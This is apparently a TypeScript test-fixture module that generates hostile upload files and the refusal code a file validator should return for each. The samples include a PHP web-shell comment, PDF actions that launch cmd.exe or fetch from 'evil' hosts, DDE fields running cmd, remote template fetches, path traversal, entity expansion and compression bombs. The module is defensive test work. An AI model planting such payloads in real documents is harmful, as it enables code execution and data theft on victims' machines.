import { deflateSync } from 'node:zlib';
import { PDFName, PDFString, type PDFDocument } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';
import { mostFileBytes, type FileRefusal } from '@eldorado/rules/pqrs-files';
import {
  commentedZip,
  exampleDocx,
  exampleImage,
  examplePdf,
  relation,
  words,
} from './exampleFiles.ts';

type Hostile = readonly [what: string, refusal: FileRefusal, make: () => Buffer | Promise<Buffer>];

const script = '<script>alert(1)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
const archive = () => Buffer.from(zipSync({ 'a.class': strToU8('code') }));
const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));
const catalogHas = (key: string, value: Record<string, unknown>) => (document: PDFDocument) =>
  document.catalog.set(PDFName.of(key), document.context.obj(value as never));

const pageHas = (key: string, value: unknown) => (document: PDFDocument) =>
  document.getPage(0).node.set(PDFName.of(key), document.context.obj(value as never));
/** A PDF with more right behind its first line. */
const behindHeader = (pdf: Buffer, words: string) => {
  const line = pdf.indexOf('\n') + 1;
  return joined(pdf.subarray(0, line), words, '\n', pdf.subarray(line));
};

/** A field of a document, in pieces. */
const field = (...pieces: string[]) =>
  [
    '<x:fldChar x:fldCharType="begin"/>',
    ...pieces.map((piece) =>
      piece.startsWith('<') ? piece : `<x:instrText>${piece}</x:instrText>`,
    ),
    '<x:fldChar x:fldCharType="end"/>',
  ].join('');
/** An archive whose directory and files say another size of a part. */
function declaring(archived: Buffer, was: number, now: number): Buffer {
  for (let at = archived.indexOf(sizeOf(was)); at >= 0; at = archived.indexOf(sizeOf(was), at + 4))
    archived.writeUInt32LE(now, at);
  return archived;
}
function sizeOf(size: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(size);
  return bytes;
}

/** A JPEG with a comment right after its beginning. */
const commented = async (words: string) => {
  const image = await exampleImage('jpeg');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(words.length + 2);
  return joined(image.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, words, image.subarray(2));
};

/** A PNG whose header says another size than it has. */
async function grown(width: number, height: number): Promise<Buffer> {
  const image = await exampleImage('png');
  image.writeUInt32BE(width, 16);
  image.writeUInt32BE(height, 20);
  return image;
}

/** A PDF with an object stream that is 400 MB of blanks, as much as whoever looks at it may take in all. */
export function packedBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(400 * 1024 * 1024, ' '), { level: 9 });
  const head = `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`;
  return joined(head, packed, '\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF');
}

/** What a stranger may try, with what it is refused for. */
export const hostileFiles: readonly Hostile[] = [
  ['nothing', 'file-empty', () => Buffer.alloc(0)],
  ['more than 5 MB', 'file-too-large', () => Buffer.alloc(mostFileBytes + 1)],
  ['an SVG with a script', 'file-type', () => Buffer.from(svg)],
  ['a page', 'file-type', () => Buffer.from(`<!doctype html><html>${script}</html>`)],
  ['a program', 'file-type', () => joined('MZ', Buffer.alloc(200), 'PE\0\0')],
  ['a GIF that is a script', 'file-type', () => Buffer.from('GIF89a/*;*/=0;alert(1)//')],
  ['an archive', 'file-type', archive],
  [
    'an old Word document',
    'file-type',
    () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1_024, '0'), 'hex'),
  ],
  [
    'a photo that is an archive',
    'file-two-kinds',
    async () => joined(await exampleImage('jpeg'), archive()),
  ],
  ['a photo with PHP in its comment', 'file-two-kinds', () => commented('<?php system($_GET[0]);')],
  ['a photo with a page in its comment', 'file-two-kinds', () => commented(`<html>${script}`)],
  ['a photo that is a PDF', 'file-two-kinds', () => commented('%PDF-1.4 1 0 obj')],
  ['a PNG of 30,000 by 30,000 pixels', 'image-too-large', () => grown(30_000, 30_000)],
  [
    'half a photo',
    'file-broken',
    async () => (await exampleImage('jpeg', 900, 900)).subarray(0, 4_000),
  ],
  ['a PNG that claims more than it has', 'file-broken', () => grown(600, 400)],
  [
    'a PDF with a script',
    'pdf-active',
    () => examplePdf((one) => one.addJavaScript('a', 'app.alert(1)'), false),
  ],
  [
    'a PDF with a packed script',
    'pdf-active',
    () => examplePdf((one) => one.addJavaScript('a', 'app.alert(1)')),
  ],
  [
    'a PDF with a script by codes',
    'pdf-active',
    async () => {
      const plain = await examplePdf((one) => one.addJavaScript('a', 'app.alert(1)'), false);
      return Buffer.from(
        plain.toString('latin1').replaceAll('/JavaScript', '/J#61vaScript'),
        'latin1',
      );
    },
  ],
  [
    'a PDF that starts a program',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'Launch', F: PDFString.of('cmd.exe') })),
  ],
  [
    'a PDF that opens a file of the network',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'GoToR', F: PDFString.of('\\\\evil\\a') })),
  ],
  [
    'a PDF with a file in it',
    'pdf-embedded',
    () => examplePdf((one) => one.attach(Buffer.from('MZ'), 'a.exe')),
  ],
  [
    'a PDF with a password',
    'file-locked',
    async () => {
      const plain = (await examplePdf(undefined, false)).toString('latin1');
      return Buffer.from(plain.replace('trailer\n<<', 'trailer\n<<\n/Encrypt 9 0 R'), 'latin1');
    },
  ],
  ['a PDF that is an archive', 'file-two-kinds', async () => joined(await examplePdf(), archive())],
  [
    'a PDF that is a page',
    'file-two-kinds',
    async () => joined(await examplePdf(), `\n<html>${script}`),
  ],
  [
    'a PDF with something behind its end',
    'file-broken',
    async () => joined(await examplePdf(), 'alert(1)'),
  ],
  [
    'a PDF that opens a page by itself',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'URI', URI: PDFString.of('http://evil') })),
  ],
  [
    'a PDF whose page opens another by itself',
    'pdf-active',
    () => examplePdf(pageHas('AA', { O: { S: 'URI', URI: PDFString.of('http://evil.example') } })),
  ],
  [
    'a PDF that prints itself',
    'pdf-active',
    () => examplePdf(catalogHas('OpenAction', { S: 'Named', N: 'Print' })),
  ],
  [
    'a PDF that goes to its first page and on to a program',
    'pdf-active',
    () =>
      examplePdf(
        catalogHas('OpenAction', { S: 'Named', N: 'FirstPage', Next: { S: 'Named', N: 'Print' } }),
      ),
  ],
  ...['Sound', 'Movie', 'Screen', '3D'].map((Subtype): Hostile => [
    `a PDF that plays (${Subtype})`,
    'pdf-active',
    () => examplePdf(pageHas('Annots', [{ Type: 'Annot', Subtype, Rect: [0, 0, 9, 9] }])),
  ]),
  ...['Sound', 'Hide', 'ResetForm', 'GoTo3DView', 'Trans', 'Nonsense'].map((S): Hostile => [
    `a PDF whose link does what no paper does (${S})`,
    'pdf-active',
    () => examplePdf(pageHas('Annots', [{ Subtype: 'Link', Rect: [0, 0, 9, 9], A: { S } }])),
  ]),
  ...['javascript:alert(1)', 'file:///etc/passwd', 'ms-word:ofe|u|http://evil'].map(
    (uri): Hostile => [
      `a PDF with a link to ${uri}`,
      'pdf-active',
      () => examplePdf(pageHas('Annots', [{ A: { S: 'URI', URI: PDFString.of(uri) } }])),
    ],
  ),
  [
    'a PDF with a script that has no name',
    'pdf-active',
    () => examplePdf(pageHas('Annots', [{ A: { JS: PDFString.of('app.alert(1)') } }])),
  ],
  [
    'a PDF with a file beside a picture',
    'pdf-embedded',
    () => examplePdf(pageHas('AF', [{ F: PDFString.of('a.exe'), EF: { F: {} } }])),
  ],
  [
    'a PDF whose data are in another file',
    'pdf-active',
    () =>
      examplePdf((one) =>
        one.context.register(one.context.stream('', { F: PDFString.of('\\\\evil\\a') })),
      ),
  ],
  [
    'a PDF that shows a page of another one',
    'pdf-active',
    () => examplePdf(catalogHas('X', { Ref: { F: PDFString.of('\\\\evil\\a'), Page: 0 } })),
  ],
  [
    'a PDF with a script in an object that a later one stands for',
    'pdf-active',
    async () => behindHeader(await examplePdf(), '2 0 obj<</S/JavaScript>>endobj'),
  ],
  [
    'a PDF with a script in what looks like data',
    'pdf-active',
    async () =>
      behindHeader(
        await examplePdf(),
        '98 0 obj<</Length 36>>stream\n99 0 obj<</S/J#61vaScript>>endobj\nendstream endobj',
      ),
  ],
  ['a PDF with words before it', 'file-type', async () => joined('MZ\n', await examplePdf())],
  ['words that say they are a PDF', 'file-broken', () => Buffer.from('%PDF-1.7\nhello\n%%EOF')],
  [
    'a Word document with macros',
    'docx-macro',
    () => exampleDocx({ 'word/vbaProject.bin': 'macro' }),
  ],
  [
    'a Word document of the kind that has macros',
    'docx-macro',
    () => exampleDocx({ 'word/vbaData.xml': '<a/>' }),
  ],
  [
    'a Word document that starts a program',
    'docx-macro',
    () =>
      exampleDocx({
        'word/document.xml': words(
          '<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd "/k calc"</w:instrText>',
        ),
      }),
  ],
  [
    'a Word document with a program in it',
    'docx-embedded',
    () => exampleDocx({ 'word/embeddings/oleObject1.bin': 'MZ' }),
  ],
  [
    'a Word document that fetches a template',
    'docx-remote',
    () =>
      exampleDocx({
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil.example/a.dotm'),
      }),
  ],
  [
    'a Word document that fetches a picture',
    'docx-remote',
    () =>
      exampleDocx({
        'word/document.xml': words(
          '<w:instrText>INCLUDEPICTURE "http://evil.example/a.png"</w:instrText>',
        ),
      }),
  ],
  ...[
    ['DDE under another prefix', '<x:fldSimple x:instr=\'DDEAUTO cmd "/k calc"\'/>', 'docx-macro'],
    ['DDE in pieces under another prefix', field('DD', 'E cmd'), 'docx-macro'],
    ['DDE as data', '<w:instrText><![CDATA[DDEAUTO]]> cmd</w:instrText>', 'docx-macro'],
    ['DDE without a begin', '<w:instrText>DDE cmd</w:instrText>', 'docx-macro'],
    ['a name that another field makes', field(field('QUOTE 68 68 69'), ' cmd'), 'docx-macro'],
    ['a button of a macro', field('MACROBUTTON a b'), 'docx-macro'],
    ['a field that nobody knows', field('NONSENSE'), 'docx-macro'],
    ['a text of another file', field('INCLUDETEXT "http://evil.example/a"'), 'docx-remote'],
    ['a link to another program', field('LINK Excel.Sheet "\\\\\\\\evil\\\\a"'), 'docx-remote'],
  ].map(([what, run, refusal]): Hostile => [
    `a Word document with ${what}`,
    refusal as FileRefusal,
    () => exampleDocx({ 'word/document.xml': words(run ?? '', 'x') }),
  ]),
  ...(
    [
      ['SETTINGS.XML.RELS', 'attachedTemplate', 'http://evil.example/a.dotm', 'docx-remote'],
      ['document.xml.rels', 'frame', 'http://evil.example/', 'docx-remote'],
      ['document.xml.rels', 'image', 'http://evil.example/a.png', 'docx-remote'],
      ['document.xml.rels', 'hyperlink', 'javascript:alert(1)', 'docx-remote'],
      ['document.xml.rels', 'hyperlink', '\\\\evil\\a', 'docx-remote'],
      ['document.xml.rels', 'oleObject', 'http://evil.example/a', 'docx-embedded'],
      ['document.xml.rels', 'subDocument', 'http://evil.example/a', 'docx-embedded'],
    ] as const
  ).map(([name, type, target, refusal]): Hostile => [
    `a Word document with ${type} to ${target} in ${name}`,
    refusal,
    () => exampleDocx({ [`word/_rels/${name}`]: relation(type, target) }),
  ]),
  ...['vbaProject', 'keyMapCustomizations'].map((type): Hostile => [
    `a Word document with ${type} under another name`,
    'docx-macro',
    () => exampleDocx({ 'word/_rels/document.xml.rels': relation(type, 'data.xml', 'Internal') }),
  ]),
  ...['aFChunk', 'control', 'package', 'nonsense'].map((type): Hostile => [
    `a Word document with ${type}`,
    'docx-embedded',
    () => exampleDocx({ 'word/_rels/document.xml.rels': relation(type, 'a.xml', 'Internal') }),
  ]),
  ...[
    ['word/data.bin', 'macro'],
    ['word/media/image1.png', 'MZ\x90'],
    ['word/media/image1.exe', 'MZ\x90'],
    ['word/media/image1.svg', svg],
    ['word/fonts/font1.odttf', 'MZ\x90'],
    ['word/afchunk.mht', 'MIME-Version: 1.0'],
    ['word/a.html', '<html>'],
    ['customXml/a.exe', 'MZ'],
  ].map(([name = '', content = '']): Hostile => [
    `a Word document with ${name} that is none of its parts`,
    'docx-embedded',
    () => exampleDocx({ [name]: content }),
  ]),
  [
    'a Word document whose parts have one name twice',
    'file-broken',
    () => exampleDocx({ 'Word/Document.xml': words('') }),
  ],
  [
    'a Word document with a part that declares less than it holds',
    'file-bomb',
    () =>
      declaring(exampleDocx({ 'word/styles.xml': ' '.repeat(1024 * 1024) }), 1024 * 1024, 1_000),
  ],
  [
    'a Word document with a part that declares more than it holds',
    'file-broken',
    () => declaring(exampleDocx({ 'word/styles.xml': ' '.repeat(4_000) }), 4_000, 4_001),
  ],
  [
    'a Word document with an alphabet that hides its words',
    'file-broken',
    () =>
      exampleDocx({
        'word/document.xml': `<?xml version="1.0" encoding="UTF-7"?>${words('<w:t>a</w:t>')}`,
      }),
  ],
  [
    'a Word document with a page behind its end',
    'file-two-kinds',
    () => commentedZip(exampleDocx(), `<html>${script}`),
  ],
  [
    'a Word document with a name that leads elsewhere',
    'file-broken',
    () => exampleDocx({ '../../evil.xml': '<a/>' }),
  ],
  [
    'a Word document with entities',
    'file-broken',
    () =>
      exampleDocx({
        'word/document.xml': '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
      }),
  ],
  [
    'a Word document that unpacks to 70 MB',
    'file-bomb',
    () => exampleDocx({ 'word/a.xml': ' '.repeat(70 * 1024 * 1024) }),
  ],
];
